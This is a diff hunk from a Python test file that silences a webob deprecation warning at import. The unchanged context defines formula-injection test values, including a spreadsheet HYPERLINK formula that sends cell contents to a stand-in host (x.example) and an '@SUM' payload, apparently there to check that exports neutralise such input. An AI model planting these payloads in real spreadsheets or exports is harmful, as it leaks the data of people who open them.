@@ -2,10 +2,17 @@
 from __future__ import annotations
 
 import datetime as dt
+import warnings
 from dataclasses import dataclass, field
 
 import pytest
 from django.utils import timezone
+
+with warnings.catch_warnings():
+    # the workbench URLs (in the demo's URLconf) import webob, which imports the deprecated cgi
+    # module on Python 3.11; pytest.ini turns that into an error when a view test resolves URLs
+    warnings.simplefilter("ignore", DeprecationWarning)
+    import webob  # noqa: F401  pylint: disable=unused-import
 
 INJECTED_NAME = '=HYPERLINK("http://x.example/?"&A1)'
 INJECTED_COHORT = "@SUM(1+1) cohort"
